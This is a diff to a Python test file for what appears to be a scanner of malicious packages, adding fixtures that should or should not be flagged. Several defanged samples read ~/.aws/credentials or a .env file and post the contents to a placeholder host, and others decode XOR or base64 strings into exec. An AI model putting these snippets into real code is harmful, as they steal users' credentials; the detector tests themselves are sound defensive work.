@@ -1,7 +1,8 @@
 """Flows through a module's own functions and through names: decoded data handed to a local function whose
-parameter reaches exec/eval or a network call, host data handed to a helper that posts it, and strings
-built from decoded parts (``out += chr(ord(c) ^ k)``); a helper given plain data, or a function whose
-parameter never reaches a sink, gives nothing.
+parameter reaches exec/eval or a network call, host data (also a credential file's or ``.env``'s content)
+handed to a helper that posts it, and strings built from decoded parts (``out += chr(ord(c) ^ k)``); a
+helper given plain data, a settings file posted, or a function whose parameter never reaches a sink, gives
+nothing.
 
 Every package is defanged source built in memory (placeholder hosts) and nothing runs."""
 
@@ -28,7 +29,8 @@ FLOWS = {
         8,
     ),
     "helper posts host data": (
-        "import platform, requests\ndef report(data):\n    requests.post('https://example.invalid/c', data=data)\n"
+        "import platform, requests\ndef report(data):\n"
+        "    requests.post('https://example.invalid/c', data=data)\n"
         "def main():\n    report({'host': platform.node()})\n",
         "code.exfil_flow",
         5,
@@ -51,6 +53,19 @@ FLOWS = {
         "        out += chr(ord(s[i]) ^ ord(k[i % len(k)]))\n    b(out)\n",
         "code.decode_exec",
         6,
+    ),
+    "a credential file posted": (
+        "import os, requests\ndef sync():\n    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+        "    requests.post('https://example.invalid/c', data=data)\n",
+        "code.exfil_flow",
+        4,
+    ),
+    "a .env read through with, posted by a helper": (
+        "import requests\ndef upload(blob):\n"
+        "    requests.post('https://example.invalid/u', data={'e': blob})\n"
+        "def run():\n    with open('.env') as fh:\n        env = fh.read()\n    upload(env)\n",
+        "code.exfil_flow",
+        7,
     ),
     "decoded value renamed before exec": (
         "import base64\ndef go(s):\n    raw = base64.b64decode(s)\n    text = raw.decode()\n"
@@ -82,11 +97,21 @@ PLAIN = {
         "def main():\n    report({'status': 'ok'})\n"
     ),
     "decoded data handed to a function that only prints it": (
-        "import base64\ndef show(x):\n    print(x)\ndef main():\n    show(base64.b64decode('aGk=').decode())\n"
+        "import base64\ndef show(x):\n    print(x)\n"
+        "def main():\n    show(base64.b64decode('aGk=').decode())\n"
     ),
     "host data handed to a helper that runs a process with it": (
         "import platform, subprocess\ndef run(arg):\n    subprocess.run(['echo', arg])\n"
         "def main():\n    run(platform.node())\n"
+    ),
+    "a settings file posted": (
+        "import requests\ndef sync():\n    data = open('settings.json').read()\n"
+        "    requests.post('https://example.invalid/c', data=data)\n"
+    ),
+    "a credential file written, then something else posted": (
+        "import os, requests\ndef save(k):\n"
+        "    with open(os.path.expanduser('~/.aws/credentials'), 'w') as fh:\n"
+        "        fh.write(k)\n    requests.post('https://example.invalid/c', data={'saved': True})\n"
     ),
     "a string built from plain parts": (
         "def go(parts):\n    out = ''\n    for p in parts:\n        out += p.upper()\n    exec(out)\n"
